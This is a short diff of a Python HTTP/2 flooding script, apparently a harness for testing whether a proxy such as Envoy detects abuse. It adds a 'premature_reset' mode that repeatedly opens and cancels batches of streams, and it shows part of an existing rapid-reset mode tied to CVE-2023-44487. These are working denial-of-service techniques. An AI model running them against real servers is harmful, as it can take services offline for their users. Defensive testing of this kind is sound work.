@@ -68,7 +68,25 @@ def pump(s, conn, bodies, done):
 def flood(addr, kind):
     s, conn, auth = connect(addr)
     parts = []
-    if kind == "rapid_reset":
+    if kind == "premature_reset":
+        # Streams that reach the upstream and are then cancelled, round
+        # after round (Envoy's premature-reset rule catches this).
+        try:
+            for _ in range(4):
+                sids = []
+                for _ in range(90):
+                    sid = conn.get_next_available_stream_id()
+                    conn.send_headers(sid, req_headers(auth, "/slow"), end_stream=True)
+                    sids.append(sid)
+                s.sendall(conn.data_to_send())
+                time.sleep(0.2)
+                for sid in sids:
+                    conn.reset_stream(sid)
+                s.sendall(conn.data_to_send())
+                time.sleep(0.1)
+        except OSError:
+            pass
+    elif kind == "rapid_reset":
         # Open and reset streams as fast as possible (CVE-2023-44487).
         for _ in range(2000):
             sid = conn.get_next_available_stream_id()
